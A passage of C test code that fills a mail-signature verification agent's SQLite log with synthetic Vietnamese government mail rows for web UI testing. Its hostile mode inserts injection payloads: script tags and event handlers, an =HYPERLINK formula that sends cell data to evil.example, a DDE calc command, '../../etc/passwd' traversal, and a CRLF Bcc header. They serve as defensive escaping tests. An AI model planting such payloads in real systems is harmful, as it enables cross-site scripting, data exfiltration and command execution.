/* logfill.c - see logfill.h. */
#include "config.h"

#include <inttypes.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "smime/base.h"
#include "agent/journal.h"
#include "agent/logdb.h"
#include "tests/webui/logfill.h"
#include "webui/fold.h"

const char *const logfill_accounts[][2] = {
	{ "vanthu", "vanthu@benluc.longan.gov.vn" },
	{ "ketoan", "ketoan@benluc.longan.gov.vn" },
	{ "tuphap", "tuphap@benluc.longan.gov.vn" },
	{ "giaoduc", "phonggd@benluc.longan.gov.vn" },
	{ "yte", "trungtamyte@benluc.longan.gov.vn" },
	{ "taichinh", "taichinh@benluc.longan.gov.vn" },
	{ "noivu", "noivu@benluc.longan.gov.vn" },
	{ "ubnd", "ubnd@benluc.longan.gov.vn" },
	{ NULL, NULL },
};
#define N_ACCOUNTS 8

static void
seterr(struct logfill *f, const char *fmt, ...)
{
	va_list ap;

	va_start(ap, fmt);
	vsnprintf(f->err, sizeof(f->err), fmt, ap);
	va_end(ap);
}

static bool
exec(struct logfill *f, const char *sql)
{
	char *msg = NULL;

	if (sqlite3_exec(f->db, sql, NULL, NULL, &msg) != SQLITE_OK) {
		seterr(f, "%s", msg != NULL ? msg : sqlite3_errmsg(f->db));
		sqlite3_free(msg);
		return false;
	}
	return true;
}

static bool
prepare(struct logfill *f, const char *sql, sqlite3_stmt **st)
{
	if (sqlite3_prepare_v3(f->db, sql, -1, SQLITE_PREPARE_PERSISTENT, st, NULL) != SQLITE_OK) {
		seterr(f, "%s: %s", sql, sqlite3_errmsg(f->db));
		return false;
	}
	return true;
}

bool
logfill_open(struct logfill *f, const char *path, bool journal)
{
	struct kerr err = KERR_INIT;

	memset(f, 0, sizeof(*f));
	f->journal = journal;
	f->rng = 1;
	/* The schema comes from its owners, so a filled log is what the agent
	 * writes, index for index: the log's (agent/logdb.c) and, when asked,
	 * the journal's tables (agent/journal.c). */
	{
		struct logdb *l = logdb_open(path, &err);
		struct journal *j = NULL;

		if (l == NULL || (journal && (j = journal_open(path, &err)) == NULL)) {
			seterr(f, "%s", err.msg);
			logdb_close(&l);
			return false;
		}
		journal_close(&j);
		logdb_close(&l);
	}
	if (sqlite3_open_v2(path, &f->db, SQLITE_OPEN_READWRITE | SQLITE_OPEN_CREATE, NULL) != SQLITE_OK) {
		seterr(f, "%s: %s", path, f->db != NULL ? sqlite3_errmsg(f->db) : "cannot open");
		goto fail;
	}
	sqlite3_busy_timeout(f->db, 5000);
	/* Filling is one big transaction without a rollback journal; the file
	 * is put in WAL mode, as the agent's (agent/journal.c), when closed. */
	if (!exec(f, "PRAGMA journal_mode = OFF; PRAGMA synchronous = OFF; PRAGMA cache_size = -262144;"))
		goto fail;
	if (!prepare(f, "INSERT INTO messages (time, direction, account, address, folder, uidvalidity, uid,"
	    " message_id, from_addr, from_name, to_addrs, subject, date_hdr, verdict, reasons, signer,"
	    " signer_email, attachments, n_attachments, size, verify_ms, journal_id, search, report,"
	    " att_verdict) VALUES (?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?,?)", &f->ins_msg) ||
	    !prepare(f, "INSERT INTO evidence (message, sig, kind, source, data) VALUES (?,?,?,?,?)",
	    &f->ins_ev) ||
	    !prepare(f, "INSERT INTO account_status (account, address, state, since, last_idle, backlog,"
	    " last_error, last_error_time, updated) VALUES (?,?,?,?,?,?,?,?,?)"
	    " ON CONFLICT (account) DO UPDATE SET address = excluded.address, state = excluded.state,"
	    " since = excluded.since, last_idle = excluded.last_idle, backlog = excluded.backlog,"
	    " last_error = excluded.last_error, last_error_time = excluded.last_error_time,"
	    " updated = excluded.updated", &f->ins_acct))
		goto fail;
	if (journal &&
	    (!prepare(f, "INSERT INTO outgoing (account, folder, uidvalidity, uid, message_id, state,"
	    " smtp_reply, attempts, last_error, created, updated) VALUES (?,?,?,?,?,?,?,?,?,?,?)", &f->ins_out) ||
	    !prepare(f, "INSERT INTO steps (outgoing, state, at, detail) VALUES (?,?,?,?)", &f->ins_step)))
		goto fail;
	return true;
fail:
	{
		char keep[sizeof(f->err)];

		memcpy(keep, f->err, sizeof(keep));
		logfill_close(f);
		memcpy(f->err, keep, sizeof(keep));
	}
	return false;
}

void
logfill_close(struct logfill *f)
{
	sqlite3_finalize(f->ins_msg);
	sqlite3_finalize(f->ins_ev);
	sqlite3_finalize(f->ins_out);
	sqlite3_finalize(f->ins_step);
	sqlite3_finalize(f->ins_acct);
	free(f->fts.json);
	if (f->db != NULL) {
		sqlite3_exec(f->db, "PRAGMA journal_mode = WAL", NULL, NULL, NULL);
		sqlite3_close(f->db);
	}
	memset(f, 0, sizeof(*f));
}

/* ---- random but deterministic ---- */

static uint64_t
rnd(struct logfill *f)
{
	uint64_t z = (f->rng += 0x9E3779B97F4A7C15ull);

	z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ull;
	z = (z ^ (z >> 27)) * 0x94D049BB133111EBull;
	return z ^ (z >> 31);
}

static unsigned
rndn(struct logfill *f, unsigned n)
{
	return (unsigned)(rnd(f) % n);
}

#define PICK(f, a) ((a)[rndn((f), sizeof(a) / sizeof((a)[0]))])

static const char *const family[] = {
	"Nguyễn", "Trần", "Lê", "Phạm", "Hoàng", "Huỳnh", "Phan", "Vũ", "Võ", "Đặng", "Bùi",
	"Đỗ", "Hồ", "Ngô", "Dương", "Lý", "Trương", "Đinh", "Lâm", "Châu",
};
static const char *const family_ascii[] = {
	"nguyen", "tran", "le", "pham", "hoang", "huynh", "phan", "vu", "vo", "dang", "bui",
	"do", "ho", "ngo", "duong", "ly", "truong", "dinh", "lam", "chau",
};
static const char *const middle[] = {
	"Văn", "Thị", "Hữu", "Đức", "Minh", "Thanh", "Quốc", "Kim", "Ngọc", "Thu", "Hoài", "Xuân",
};
static const char *const given[] = {
	"Ngân", "Hương", "Hùng", "Dũng", "Lan", "Phương", "Tuấn", "Hải", "Hà", "Yến", "Khánh",
	"Đức", "Thảo", "Trang", "Sơn", "Long", "Nhung", "Quyên", "Thủy", "Tâm", "Nghĩa", "Vy",
	"Trí", "Hiếu", "Bảo", "Ánh", "Loan", "Cường",
};
static const char *const given_ascii[] = {
	"ngan", "huong", "hung", "dung", "lan", "phuong", "tuan", "hai", "ha", "yen", "khanh",
	"duc", "thao", "trang", "son", "long", "nhung", "quyen", "thuy", "tam", "nghia", "vy",
	"tri", "hieu", "bao", "anh", "loan", "cuong",
};
static const struct {
	const char *org, *domain, *o;
} orgs[] = {
	{ "UBND", "longan.gov.vn", "UBND tỉnh Long An" },
	{ "STC", "stc.longan.gov.vn", "Sở Tài chính tỉnh Long An" },
	{ "SNV", "snv.longan.gov.vn", "Sở Nội vụ tỉnh Long An" },
	{ "STTTT", "stttt.longan.gov.vn", "Sở Thông tin và Truyền thông tỉnh Long An" },
	{ "SGDĐT", "sgddt.longan.gov.vn", "Sở Giáo dục và Đào tạo tỉnh Long An" },
	{ "SYT", "syt.longan.gov.vn", "Sở Y tế tỉnh Long An" },
	{ "UBND-BL", "benluc.longan.gov.vn", "UBND huyện Bến Lức" },
	{ "UBND-ĐH", "duchoa.longan.gov.vn", "UBND huyện Đức Hòa" },
	{ "UBND-CĐ", "canduoc.longan.gov.vn", "UBND huyện Cần Đước" },
	{ "BCY", "bcy.gov.vn", "Ban Cơ yếu Chính phủ" },
};
static const char *const doc_kind[] = {
	"Công văn", "Quyết định", "Tờ trình", "Giấy mời", "Báo cáo", "Kế hoạch", "Thông báo",
	"Công văn", "Công văn",
};
static const char *const dept[] = { "VP", "TCKH", "NV", "TP", "KT", "GDĐT", "YT", "TNMT" };
static const char *const topic[] = {
	"triển khai chữ ký số trong cơ quan nhà nước",
	"báo cáo tình hình thực hiện nhiệm vụ quý IV năm 2026",
	"mời họp giao ban tháng 12",
	"phân bổ kinh phí sự nghiệp năm 2027",
	"tăng cường công tác bảo đảm an toàn thông tin mạng",
	"góp ý dự thảo Nghị quyết của Hội đồng nhân dân tỉnh",
	"tổ chức Hội nghị tổng kết công tác cải cách hành chính",
	"đôn đốc nộp báo cáo thống kê",
	"cử cán bộ tham dự lớp bồi dưỡng nghiệp vụ văn thư, lưu trữ",
	"điều chỉnh kế hoạch đầu tư công trung hạn",
	"phòng, chống dịch bệnh trên địa bàn huyện",
	"xét duyệt hồ sơ thi đua, khen thưởng",
	"rà soát thủ tục hành chính thuộc thẩm quyền giải quyết",
	"chuyển đổi số và phát triển chính quyền số",
};
static const char *const attach[][2] = {
	{ "CV-", "-UBND.pdf" }, { "Du-thao-Quyet-dinh-", ".docx" }, { "Phụ lục kèm theo ", ".xlsx" },
	{ "Báo cáo số ", ".pdf" }, { "Danh sách đại biểu ", ".xlsx" }, { "Tờ trình ", ".signed.pdf" },
	{ "KH-", ".doc" },
};
static const char *
content_type(const char *name)
{
	size_t n = strlen(name);

	if (n >= 4 && strcmp(name + n - 4, ".pdf") == 0)
		return "application/pdf";
	if (n >= 5 && strcmp(name + n - 5, ".docx") == 0)
		return "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
	if (n >= 5 && strcmp(name + n - 5, ".xlsx") == 0)
		return "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
	if (n >= 4 && strcmp(name + n - 4, ".doc") == 0)
		return "application/msword";
	return "application/octet-stream";
}
static const char ca_subject[] = "CN=Cục Chứng thực số và Bảo mật thông tin,O=Ban Cơ yếu Chính phủ,C=VN";
static const char root_subject[] = "CN=Vietnam National Root CA,O=Ministry of Information and Communications,C=VN";

/* Attacker-controlled text for --hostile rows. */
static const char *const hostile_subject[] = {
	"<script>alert(1)</script> Công văn khẩn",
	"\"><img src=x onerror=alert(1)> Giấy mời",
	"javascript:alert(document.cookie)",
	"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")",
	"+cmd|' /C calc'!A0 Báo cáo",
	"-2+3 @SUM(1+1) Tờ trình </textarea></title><svg onload=alert(1)>",
	"{{.}} {{#rows}} ${7*7} \r\nBcc: victim@example.com",
};
static const char *const hostile_name[] = {
	"<script>alert(1)</script>",
	"\"><img src=x onerror=alert(1)>",
	"javascript:alert(1)",
	"=HYPERLINK(\"http://evil.example\",\"Nguyễn Văn A\")",
	"@SUM(A1:A9)",
	"Trần </td><td onmouseover=alert(1)>",
};
static const char *const hostile_attach[] = {
	"<script>alert(1)</script>.pdf",
	"\"><img src=x onerror=alert(1)>.docx",
	"javascript:alert(1).pdf",
	"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\").xlsx",
	"../../etc/passwd",
	"+cmd|' /C calc'!A0.xls",
};

/* ---- JSON text, escaped by hand (fast; json-c would be 3x slower) ---- */

static void
jstr(struct buf *b, const char *s)
{
	if (s == NULL) {
		buf_appends(b, "null");
		return;
	}
	buf_appends(b, "\"");
	while (*s != '\0') {
		size_t run = 0;

		while (s[run] != '\0' && s[run] != '"' && s[run] != '\\' && (unsigned char)s[run] >= 0x20)
			run++;
		buf_append(b, s, run);
		s += run;
		if (*s == '"' || *s == '\\') {
			char e[2] = { '\\', *s++ };

			buf_append(b, e, 2);
		} else if (*s != '\0') {
			buf_printf(b, "\\u%04x", (unsigned char)*s++);
		}
	}
	buf_appends(b, "\"");
}

static void
hex(char *out, struct logfill *f, size_t bytes)
{
	static const char digits[] = "0123456789abcdef";

	for (size_t i = 0; i < bytes; i++) {
		unsigned v = rndn(f, 256);

		out[2 * i] = digits[v >> 4];
		out[2 * i + 1] = digits[v & 15];
	}
	out[2 * bytes] = '\0';
}

static void
json_reasons(struct buf *b, const char *reasons)
{
	const char *p = reasons != NULL ? reasons : "";
	bool first = true;

	buf_appends(b, "[");
	while (*p != '\0') {
		size_t n = strcspn(p, " ");

		if (n > 0) {
			char one[64];

			snprintf(one, sizeof(one), "%.*s", (int)(n < 63 ? n : 63), p);
			if (!first)
				buf_appends(b, ",");
			jstr(b, one);
			first = false;
		}
		p += n;
		p += strspn(p, " ");
	}
	buf_appends(b, "]");
}

/* The verdict of the row's .pdf attachments in the made report. */
static const char *
pdf_verdict(const struct logfill_row *r)
{
	if (strcmp(r->direction, "out") != 0 && r->att_verdict != NULL)
		return r->att_verdict;
	return r->signer != NULL ? "valid" : "unsigned";
}

/* messages.att_verdict for the row (see logfill.h): the signed
 * attachments' combined verdict, NULL when none is signed. */
static const char *
row_att_verdict(const struct logfill_row *r)
{
	const char *v;

	if (strcmp(r->direction, "out") == 0)
		return NULL;
	if (r->report != NULL)
		v = r->att_verdict;
	else if (r->attachments != NULL && strstr(r->attachments, ".pdf") != NULL)
		v = pdf_verdict(r);
	else
		v = NULL;
	return v != NULL && strcmp(v, "unsigned") != 0 ? v : NULL;
}

/* A report in the agent/logdb.h shape, made from the row. */
static void
make_report(struct logfill *f, const struct logfill_row *r, struct buf *b)
{
	bool out = strcmp(r->direction, "out") == 0;
	bool signed_ = r->signer != NULL;
	const char *sigverdict = out ? "valid" : r->verdict;
	char sha[65], serial[33];
	char from[512];

	snprintf(from, sizeof(from), "%s <%s>", r->from_name != NULL ? r->from_name : "",
	    r->from_addr != NULL ? r->from_addr : "");
	buf_appends(b, "{\"verdict\":");
	jstr(b, r->verdict);
	buf_appends(b, ",\"reasons\":");
	json_reasons(b, r->reasons);
	buf_appends(b, ",\"detail\":");
	jstr(b, strcmp(r->verdict, "failed") == 0 ? "550 5.7.1 Recipient address rejected: Access denied" : NULL);
	buf_appends(b, ",\"from\":");
	jstr(b, r->from_addr);
	buf_appends(b, ",\"headers\":{\"from\":");
	jstr(b, from);
	buf_appends(b, ",\"to\":");
	jstr(b, r->to_addrs);
	buf_appends(b, ",\"cc\":null,\"date\":\"Sun, 29 Nov 2026 09:15:00 +0700\",\"subject\":");
	jstr(b, r->subject);
	buf_appends(b, ",\"message-id\":");
	jstr(b, r->message_id);
	buf_appends(b, "},\"mime\":[");
	if (signed_) {
		buf_printf(b, "{\"part\":\"1\",\"type\":\"multipart/signed\",\"name\":null,\"size\":%" PRId64
		    ",\"depth\":0,\"covered_by\":[]},", r->size);
		buf_printf(b, "{\"part\":\"1.1\",\"type\":\"multipart/mixed\",\"name\":null,\"size\":%" PRId64
		    ",\"depth\":1,\"covered_by\":[0]},", r->size - 2100);
		buf_appends(b, "{\"part\":\"1.1.1\",\"type\":\"text/plain\",\"name\":null,\"size\":812,"
		    "\"depth\":2,\"covered_by\":[0]},");
		buf_appends(b, "{\"part\":\"1.2\",\"type\":\"application/pkcs7-signature\",\"name\":\"smime.p7s\","
		    "\"size\":2048,\"depth\":1,\"covered_by\":[]}");
	} else {
		buf_printf(b, "{\"part\":\"1\",\"type\":\"multipart/mixed\",\"name\":null,\"size\":%" PRId64
		    ",\"depth\":0,\"covered_by\":[]}", r->size);
	}
	buf_appends(b, "],\"sigs\":[");
	if (signed_) {
		hex(sha, f, 32);
		hex(serial, f, 16);
		buf_appends(b, "{\"where\":\"message\",\"kind\":\"multipart-signed\",\"verdict\":");
		jstr(b, sigverdict);
		buf_appends(b, ",\"reasons\":");
		json_reasons(b, out ? "" : r->reasons);
		buf_appends(b, ",\"covers\":\"whole\",\"signer\":{\"subject\":");
		jstr(b, r->signer);
		buf_appends(b, ",\"issuer\":");
		jstr(b, ca_subject);
		buf_printf(b, ",\"serial\":\"%s\",\"sha256\":\"%s\",\"emails\":[", serial, sha);
		jstr(b, r->signer_email);
		buf_printf(b, "],\"not_before\":%" PRId64 ",\"not_after\":%" PRId64 "},\"chain\":[",
		    r->time - 400 * 86400, r->time + 700 * 86400);
		jstr(b, r->signer);
		buf_appends(b, ",");
		jstr(b, ca_subject);
		buf_appends(b, ",");
		jstr(b, root_subject);
		buf_printf(b, "],\"signing_time\":%" PRId64 ",\"digest\":\"sha256\",\"revocation\":", r->time - 60);
		jstr(b, strstr(r->reasons, "revocation-unknown") != NULL ? NULL :
		    strstr(r->reasons, "revoked") != NULL ? "crl:http://ca.gov.vn/crl/cabcy.crl revoked" :
		    "ocsp:http://ocsp.ca.gov.vn good");
		buf_appends(b, ",\"detail\":null,\"file\":null}");
	}
	buf_appends(b, "],\"attachments\":[");
	if (r->attachments != NULL && r->attachments[0] != '\0') {
		const char *p = r->attachments;
		bool first = true;

		while (*p != '\0') {
			const char *end = strstr(p, ", ");
			size_t n = end != NULL ? (size_t)(end - p) : strlen(p);
			char name[512];

			snprintf(name, sizeof(name), "%.*s", (int)(n < 511 ? n : 511), p);
			hex(sha, f, 32);
			if (!first)
				buf_appends(b, ",");
			buf_appends(b, "{\"name\":");
			jstr(b, name);
			buf_appends(b, ",\"content_type\":");
			jstr(b, content_type(name));
			buf_printf(b, ",\"size\":%u,\"sha256\":\"%s\",\"verdict\":", 20000 + rndn(f, 400000), sha);
			jstr(b, strstr(name, ".pdf") != NULL ? pdf_verdict(r) : NULL);
			buf_appends(b, "}");
			first = false;
			p += n;
			if (end != NULL)
				p += 2;
		}
	}
	buf_appends(b, "]");
	if (out) {
		buf_appends(b, ",\"smtp\":");
		jstr(b, strcmp(r->verdict, "sent") == 0 ? "250 2.0.0 Ok: queued as 4FkX2b1RzKz9v" : NULL);
	}
	buf_appends(b, "}");
}

static int
bind_text(sqlite3_stmt *st, int i, const char *s)
{
	return s != NULL ? sqlite3_bind_text(st, i, s, -1, SQLITE_STATIC) : sqlite3_bind_null(st, i);
}

static bool
step_done(struct logfill *f, sqlite3_stmt *st)
{
	int rc = sqlite3_step(st);

	sqlite3_reset(st);
	sqlite3_clear_bindings(st);
	if (rc != SQLITE_DONE) {
		seterr(f, "insert: %s", sqlite3_errmsg(f->db));
		return false;
	}
	return true;
}

/* outgoing + steps for an 'out' row; state by verdict. */
static bool
add_journal(struct logfill *f, const struct logfill_row *r, int64_t *id_r)
{
	static const char *const detail[] = {
		NULL, "sha256=ab12… signer=CN=…", "250 2.0.0 Ok: queued as 4FkX2b1RzKz9v", "Sent", NULL,
		"550 5.7.1 Recipient address rejected: Access denied",
	};
	int last = strcmp(r->verdict, "sent") == 0 ? 4 : strcmp(r->verdict, "failed") == 0 ? 5 : 1;
	sqlite3_stmt *st = f->ins_out;

	sqlite3_bind_text(st, 1, r->account, -1, SQLITE_STATIC);
	sqlite3_bind_text(st, 2, r->folder != NULL ? r->folder : "Ký số", -1, SQLITE_STATIC);
	sqlite3_bind_int64(st, 3, r->uidvalidity);
	sqlite3_bind_int64(st, 4, r->uid);
	bind_text(st, 5, r->message_id);
	sqlite3_bind_int(st, 6, last);
	bind_text(st, 7, last == 4 ? detail[2] : NULL);
	sqlite3_bind_int(st, 8, last == 5 ? 3 : 1);
	bind_text(st, 9, last == 5 ? detail[5] : NULL);
	sqlite3_bind_int64(st, 10, r->time - 8);
	sqlite3_bind_int64(st, 11, r->time);
	if (!step_done(f, st))
		return false;
	*id_r = sqlite3_last_insert_rowid(f->db);
	for (int s = 0; s <= last; s++) {
		if (last == 5 && s > 1 && s < 5)
			continue;       /* queued, signed, failed */
		st = f->ins_step;
		sqlite3_bind_int64(st, 1, *id_r);
		sqlite3_bind_int(st, 2, s);
		sqlite3_bind_int64(st, 3, r->time - 8 + 2 * s - (s == 5 ? 8 : 0));
		bind_text(st, 4, detail[s]);
		if (!step_done(f, st))
			return false;
	}
	return true;
}

/* Send the batched FTS rows in one statement (FTS5 flushes its index at
 * every statement: once per row would take minutes for 1,000,000 rows). */
static bool
fts_flush(struct logfill *f)
{
	sqlite3_stmt *st = NULL;
	int rc;

	if (f->fts.n == 0)
		return true;
	f->fts.json[f->fts.len++] = ']';
	f->fts.json[f->fts.len] = '\0';
	if (sqlite3_prepare_v2(f->db, "INSERT INTO messages_fts (rowid, search) SELECT value ->> 0, value ->> 1"
	    " FROM json_each(?)", -1, &st, NULL) != SQLITE_OK) {
		seterr(f, "fts: %s", sqlite3_errmsg(f->db));
		return false;
	}
	sqlite3_bind_text(st, 1, f->fts.json, (int)f->fts.len, SQLITE_STATIC);
	rc = sqlite3_step(st);
	sqlite3_finalize(st);
	if (rc != SQLITE_DONE) {
		seterr(f, "fts: %s", sqlite3_errmsg(f->db));
		return false;
	}
	f->fts.len = f->fts.n = 0;
	return true;
}

/* folded is [a-z0-9 ] only: JSON without escaping. */
static bool
fts_batch(struct logfill *f, int64_t id, const char *folded)
{
	size_t need = strlen(folded) + 48;

	if (f->fts.len + need > f->fts.size) {
		f->fts.size = (f->fts.len + need) * 2;
		f->fts.json = xrealloc(f->fts.json, f->fts.size);
	}
	f->fts.len += (size_t)snprintf(f->fts.json + f->fts.len, f->fts.size - f->fts.len, "%c[%" PRId64 ",\"%s\"]",
	    f->fts.n == 0 ? '[' : ',', id, folded);
	f->fts.n++;
	return f->fts.n < 20000 || fts_flush(f);
}

bool
logfill_row(struct logfill *f, const struct logfill_row *r, int64_t *id_r)
{
	struct buf report = BUF_INIT, search = BUF_INIT;
	sqlite3_stmt *st = f->ins_msg;
	int64_t journal_id = r->journal_id, id;
	char *folded = NULL;
	bool ok = false;

	if (f->journal && journal_id == 0 && strcmp(r->direction, "out") == 0 && !add_journal(f, r, &journal_id))
		goto out;
	buf_printf(&search, "%s %s %s %s %s", r->from_name != NULL ? r->from_name : "",
	    r->from_addr != NULL ? r->from_addr : "", r->subject != NULL ? r->subject : "",
	    r->signer != NULL ? r->signer : "", r->attachments != NULL ? r->attachments : "");
	if (r->signer != NULL)
		buf_printf(&search, " %s", ca_subject);
	buf_append(&search, "", 1);
	folded = webui_fold(search.data);
	if (r->report == NULL)
		make_report(f, r, &report);
	buf_append(&report, "", 1);

	sqlite3_bind_int64(st, 1, r->time);
	bind_text(st, 2, r->direction);
	bind_text(st, 3, r->account);
	bind_text(st, 4, r->address);
	bind_text(st, 5, r->folder);
	sqlite3_bind_int64(st, 6, r->uidvalidity);
	sqlite3_bind_int64(st, 7, r->uid);
	bind_text(st, 8, r->message_id);
	bind_text(st, 9, r->from_addr);
	bind_text(st, 10, r->from_name);
	bind_text(st, 11, r->to_addrs);
	bind_text(st, 12, r->subject);
	if (r->date_hdr != 0)
		sqlite3_bind_int64(st, 13, r->date_hdr);
	bind_text(st, 14, r->verdict);
	bind_text(st, 15, r->reasons != NULL ? r->reasons : "");
	bind_text(st, 16, r->signer);
	bind_text(st, 17, r->signer_email);
	bind_text(st, 18, r->attachments);
	sqlite3_bind_int(st, 19, r->n_attachments);
	sqlite3_bind_int64(st, 20, r->size);
	if (strcmp(r->direction, "in") == 0)
		sqlite3_bind_int64(st, 21, r->verify_ms);
	if (journal_id != 0)
		sqlite3_bind_int64(st, 22, journal_id);
	bind_text(st, 23, folded);
	bind_text(st, 24, r->report != NULL ? r->report : report.data);
	bind_text(st, 25, row_att_verdict(r));
	if (!step_done(f, st))
		goto out;
	id = sqlite3_last_insert_rowid(f->db);
	if (f->fts.on && !fts_batch(f, id, folded))
		goto out;
	for (int i = 0; i < r->n_evidence && i < 3; i++) {
		static const char *const kind[] = { "certificate", "certificate", "crl" };
		static const char *const source[] = { "cms", "local", "http://ca.gov.vn/crl/cabcy.crl" };
		unsigned char der[1400];
		size_t n = 300 + rndn(f, 1000);

		der[0] = 0x30, der[1] = 0x82, der[2] = (unsigned char)((n - 4) >> 8), der[3] = (unsigned char)(n - 4);
		for (size_t k = 4; k < n; k++)
			der[k] = (unsigned char)rnd(f);
		st = f->ins_ev;
		sqlite3_bind_int64(st, 1, id);
		sqlite3_bind_int(st, 2, 0);
		sqlite3_bind_text(st, 3, kind[i], -1, SQLITE_STATIC);
		sqlite3_bind_text(st, 4, source[i], -1, SQLITE_STATIC);
		sqlite3_bind_blob(st, 5, der, (int)n, SQLITE_TRANSIENT);
		if (!step_done(f, st))
			goto out;
	}
	if (id_r != NULL)
		*id_r = id;
	ok = true;
out:
	free(folded);
	buf_release(&report);
	buf_release(&search);
	return ok;
}

/* ---- random rows ---- */

struct verdict_mix {
	unsigned weight;
	const char *verdict;
	const char *reasons[4];
};
static const struct verdict_mix in_mix[] = {
	{ 60, "valid", { "" } },
	{ 14, "unsigned", { "" } },
	{ 7, "invalid", { "digest-mismatch", "bad-signature", "revoked", "sender-mismatch expired" } },
	{ 8, "indeterminate", { "revocation-unknown", "untrusted-chain", "unsupported-algorithm",
	    "revocation-unknown weak-algorithm" } },
	{ 5, "partial", { "partial-coverage", "partial-coverage modified-after-signing" } },
	{ 3, "encrypted", { "" } },
	{ 3, "malformed", { "malformed" } },
};
/* A signed PDF's own verdict, whatever the message's: official documents
 * come signed in the PDF, often in a mail without a signature. */
static const struct verdict_mix pdf_mix[] = {
	{ 70, "valid", { "" } },
	{ 15, "unsigned", { "" } },
	{ 6, "indeterminate", { "" } },
	{ 5, "invalid", { "" } },
	{ 4, "partial", { "" } },
};
static const struct verdict_mix out_mix[] = {
	{ 92, "sent", { "" } },
	{ 2, "pending", { "" } },
	{ 6, "failed", { "" } },
};

static const struct verdict_mix *
pick_mix(struct logfill *f, const struct verdict_mix *m, size_t n, const char **reasons_r)
{
	unsigned total = 0, x;
	size_t nr = 0;

	for (size_t i = 0; i < n; i++)
		total += m[i].weight;
	x = rndn(f, total);
	for (size_t i = 0; i < n; i++) {
		if (x < m[i].weight) {
			while (nr < 4 && m[i].reasons[nr] != NULL)
				nr++;
			*reasons_r = m[i].reasons[rndn(f, (unsigned)nr)];
			return &m[i];
		}
		x -= m[i].weight;
	}
	*reasons_r = "";
	return &m[0];
}

struct scratch {
	char from_name[256], from_addr[256], to[512], subject[512], signer[512], email[256];
	char attachments[1024], message_id[128];
};

static void
random_row(struct logfill *f, struct logfill_row *r, struct scratch *s, uint64_t i, int64_t t, bool hostile)
{
	unsigned acct = rndn(f, N_ACCOUNTS);
	unsigned fam = rndn(f, sizeof(family) / sizeof(family[0]));
	unsigned giv = rndn(f, sizeof(given) / sizeof(given[0]));
	unsigned org = rndn(f, sizeof(orgs) / sizeof(orgs[0]));
	bool out = rndn(f, 100) < 30;
	const struct verdict_mix *vm;
	const char *reasons;
	unsigned na;
	size_t used = 0;

	memset(r, 0, sizeof(*r));
	r->time = t;
	r->direction = out ? "out" : "in";
	r->account = logfill_accounts[acct][0];
	r->address = logfill_accounts[acct][1];
	r->folder = out ? "Ký số" : "INBOX";
	r->uidvalidity = 1700000000 + acct;
	r->uid = (int64_t)i + 1;
	snprintf(s->message_id, sizeof(s->message_id), "<%016" PRIx64 ".%" PRIu64 "@%s>", rnd(f), i,
	    out ? "benluc.longan.gov.vn" : orgs[org].domain);
	r->message_id = s->message_id;
	snprintf(s->from_name, sizeof(s->from_name), "%s %s %s", family[fam], PICK(f, middle), given[giv]);
	if (out) {
		snprintf(s->from_addr, sizeof(s->from_addr), "%s", r->address);
		snprintf(s->to, sizeof(s->to), "vanthu@%s, %s%s@%s", orgs[org].domain, given_ascii[giv],
		    family_ascii[fam], orgs[rndn(f, sizeof(orgs) / sizeof(orgs[0]))].domain);
	} else {
		snprintf(s->from_addr, sizeof(s->from_addr), "%s.%s@%s", given_ascii[giv], family_ascii[fam],
		    orgs[org].domain);
		snprintf(s->to, sizeof(s->to), "%s", r->address);
	}
	r->from_name = s->from_name;
	r->from_addr = s->from_addr;
	r->to_addrs = s->to;
	snprintf(s->subject, sizeof(s->subject), "%s số %u/%s-%s về việc %s", PICK(f, doc_kind),
	    1 + rndn(f, 4999), orgs[org].org, PICK(f, dept), PICK(f, topic));
	r->subject = s->subject;
	r->date_hdr = t - (int64_t)rndn(f, 600);
	if (out)
		vm = pick_mix(f, out_mix, sizeof(out_mix) / sizeof(out_mix[0]), &reasons);
	else
		vm = pick_mix(f, in_mix, sizeof(in_mix) / sizeof(in_mix[0]), &reasons);
	r->verdict = vm->verdict;
	r->reasons = reasons;
	if (out || (strcmp(vm->verdict, "unsigned") != 0 && strcmp(vm->verdict, "encrypted") != 0 &&
	    strcmp(vm->verdict, "malformed") != 0)) {
		snprintf(s->signer, sizeof(s->signer), "CN=%s,OU=%s,O=%s,L=Long An,C=VN", s->from_name,
		    PICK(f, dept), out ? "UBND huyện Bến Lức" : orgs[org].o);
		snprintf(s->email, sizeof(s->email), "%s", s->from_addr);
		r->signer = s->signer;
		r->signer_email = s->email;
		r->n_evidence = (i % 16 == 0) ? 2 + (int)rndn(f, 2) : 0;
	}
	na = rndn(f, 10) < 3 ? 0 : 1 + rndn(f, 3);
	s->attachments[0] = '\0';
	for (unsigned k = 0; k < na; k++) {
		unsigned a = rndn(f, sizeof(attach) / sizeof(attach[0]));
		char one[128];

		snprintf(one, sizeof(one), "%s%u%s", attach[a][0], 1 + rndn(f, 999), attach[a][1]);
		used += (size_t)snprintf(s->attachments + used, sizeof(s->attachments) - used, "%s%s",
		    k > 0 ? ", " : "", one);
	}
	r->attachments = na > 0 ? s->attachments : NULL;
	r->n_attachments = (int)na;
	if (!out && r->attachments != NULL && strstr(r->attachments, ".pdf") != NULL) {
		const char *unused;

		r->att_verdict = pick_mix(f, pdf_mix, sizeof(pdf_mix) / sizeof(pdf_mix[0]), &unused)->verdict;
	}
	r->size = 8000 + rndn(f, 900000);
	r->verify_ms = 3 + rndn(f, 60);
	if (hostile) {
		snprintf(s->subject, sizeof(s->subject), "%s", PICK(f, hostile_subject));
		snprintf(s->from_name, sizeof(s->from_name), "%s", PICK(f, hostile_name));
		snprintf(s->attachments, sizeof(s->attachments), "%s, %s", PICK(f, hostile_attach),
		    PICK(f, hostile_attach));
		r->attachments = s->attachments;
		r->n_attachments = 2;
		if (r->signer != NULL)
			snprintf(s->signer, sizeof(s->signer), "CN=%s,O=<b>Evil</b> \"Corp\",C=VN",
			    PICK(f, hostile_name));
		snprintf(s->to, sizeof(s->to), "\"<script>alert(1)</script>\"@evil.example, %s", r->address);
	}
}

/* Drop the log's AFTER INSERT trigger on messages (the one that feeds
 * messages_fts, agent/logdb.c) and return its SQL in *sql_r (caller owns),
 * to make it again after the fill. */
static bool
